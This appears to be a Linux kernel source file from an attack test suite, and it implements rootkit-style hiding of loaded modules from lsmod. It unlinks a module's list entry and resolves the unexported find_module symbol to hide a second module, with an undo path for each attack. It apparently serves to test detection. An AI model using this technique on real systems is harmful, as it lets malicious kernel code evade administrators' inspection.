// SPDX-License-Identifier: GPL-2.0-or-later
/*
 * Modules taken off the list that lsmod shows, as rootkits do.
 */
#include <linux/module.h>
#include <linux/rculist.h>
#include "attack.h"

/* Loaded by init's "late". */
#define LATE "dummy"

static int take_off(struct module *mod, struct list_head **before, bool undo)
{
    if (undo) {
        list_add_rcu(&mod->list, *before);
        return 0;
    }
    *before = mod->list.prev;
    list_del_rcu(&mod->list);
    return 0;
}

/* Data alone: what it does to the kernel was there before. */
static int hide(bool undo)
{
    static struct list_head *before;

    return take_off(THIS_MODULE, &before, undo);
}

/* One that was loaded meanwhile. */
static int hide_late(bool undo)
{
    struct module *(*find)(const char *) = (void *)symbol("find_module");
    static struct list_head *before;
    static struct module *late;

    if (!undo) {
        preempt_disable();
        late = find(LATE);
        preempt_enable();
    }
    return late ? take_off(late, &before, undo) : -ENOENT;
}

const struct attack hide_attacks[] = {
    {"hide", hide}, {"hide-late", hide_late}, {}};
